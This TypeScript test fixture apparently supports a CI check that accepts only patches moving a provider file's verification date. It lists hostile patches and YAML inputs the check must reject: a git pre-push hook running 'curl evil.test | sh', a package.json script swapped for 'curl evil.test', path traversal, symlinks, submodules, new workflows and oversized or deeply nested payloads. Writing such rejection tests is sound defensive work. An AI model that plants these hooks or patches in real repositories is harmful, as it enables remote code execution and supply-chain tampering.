/** Files, and changes of them: dates that move, and more than that, as texts and as bytes of a patch. */
import { readFileSync } from "node:fs";
import { load } from "js-yaml";

export const acme = "facts/providers/acme.yaml";
export const part = "facts/providers/acme/limits.yaml";

/** By name: in one text, one text in the place of another. */
type Changes = Readonly<Record<string, readonly [from: string, to: string]>>;

const { provider, ...changes } = load(
  readFileSync("test/workflows/changes.yaml", "utf8"),
) as Readonly<Record<"honest" | "beside" | "hostile", Changes>> & { readonly provider: string };

export const base: Readonly<Record<string, string>> = {
  [acme]: provider,
  [part]: provider,
  "facts/keys.yaml": "a.b:\n  description: B.\n  datatype: integer\n",
  "package.json": `${JSON.stringify({ scripts: { check: "true" } })}\n`,
  ".gitattributes": "* text=auto eol=lf\n",
};

/** When a change is judged. */
export const now = Date.parse("2026-03-02T00:00:00Z");
const moved = "last_verified_at: 2026-03-01T04:05:06Z";
const date = "last_verified_at: 2026-02-01";
export const dated = provider.replace(date, moved);

/** The change was made: a text that is not there would be no change. */
function made(text: string, all: Changes): readonly (readonly [string, string])[] {
  return Object.entries(all).map(([what, [from, to]]) => {
    if (!text.includes(from)) throw new Error(`${what} changes nothing`);
    return [what, text.replace(from, () => to)];
  });
}

/** What a provider's file may become, by name. */
export const honestTexts = made(provider, changes.honest);

/** What it may not, some beside a date that moves, which alone would be accepted. */
export const hostileTexts: readonly (readonly [string, string])[] = [
  ...made(dated, changes.beside),
  ...made(provider, changes.hostile),
  ["CRLF", dated.replaceAll("\n", "\r\n")],
  ["a byte order mark", `\ufeff${dated}`],
  ["no line break at the end", dated.trimEnd()],
  ["a directive", `%YAML 1.1\n---\n${dated}`],
  ["a second document", `${dated}---\nname: Evil\n`],
  ["what is no YAML", "name: [\n"],
  ["nesting that nobody reads", `${"[".repeat(1000)}${"]".repeat(1000)}\n`],
];

const hunk = `--- a/${acme}\n+++ b/${acme}\n@@ -20 +20 @@\n-            ${date}\n+            ${moved}\n`;
const evil =
  '@@ -1 +1 @@\n-{"scripts":{"check":"true"}}\n+{"scripts":{"check":"curl evil.test"}}\n';
const newFile = (path: string, text: string, mode = "100644"): string =>
  `diff --git a/${path} b/${path}\nnew file mode ${mode}\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+${text}\n`;

/** Bytes of patches that touch more than providers' files, or them in another way, whoever wrote them. */
export const hostilePatches: Readonly<Record<string, string>> = {
  "another file after a provider's": `diff --git a/${acme} b/${acme}\n${hunk}--- a/package.json\n+++ b/package.json\n${evil}`,
  "quoted paths": `diff --git "a/package.json" "b/package.json"\n--- "a/package.json"\n+++ "b/package.json"\n${evil}`,
  "octal digits in a path": `--- "a/\\160ackage.json"\n+++ "b/\\160ackage.json"\n${evil}`,
  "a new workflow": "--- /dev/null\n+++ b/.github/workflows/evil.yml\n@@ -0,0 +1 @@\n+on: push\n",
  "the attributes": newFile("facts/providers/.gitattributes", "acme.yaml -diff"),
  "a new provider": newFile("facts/providers/evil.yaml", "name: Evil"),
  "a name in other case": newFile("facts/providers/Acme.yaml", "name: Evil"),
  "a deleted file": `diff --git a/package.json b/package.json\ndeleted file mode 100644\n--- a/package.json\n+++ /dev/null\n@@ -1 +0,0 @@\n-{"scripts":{"check":"true"}}\n`,
  "a mode beside a date": `diff --git a/${acme} b/${acme}\nold mode 100644\nnew mode 100755\n${hunk}`,
  "a link": newFile("facts/providers/evil.yaml", "../../package.json", "120000"),
  "a submodule": newFile("facts/providers/evil", `Subproject commit ${"1".repeat(40)}`, "160000"),
  "a rename": `diff --git a/${acme} b/facts/providers/other.yaml\nsimilarity index 100%\nrename from ${acme}\nrename to facts/providers/other.yaml\n`,
  "a copy": `diff --git a/${acme} b/evil.yaml\nsimilarity index 100%\ncopy from ${acme}\ncopy to evil.yaml\n`,
  "a path that climbs": newFile("../evil.yaml", "x"),
  "an absolute path": "--- /dev/null\n+++ /tmp/evil.yaml\n@@ -0,0 +1 @@\n+x\n",
  "a hook of git": newFile(".git/hooks/pre-push", "curl evil.test | sh", "100755"),
  "a claim to hold a gigabyte": `diff --git a/${acme} b/${acme}\nindex ${"1".repeat(40)}..${"2".repeat(40)} 100644\nGIT binary patch\nliteral 1073741824\nzcmZ\n\n`,
  "more than any honest one": `${hunk}${"#".repeat(16 * 1024 * 1024)}\n`,
  "what is no patch": "Hello.\n",
};
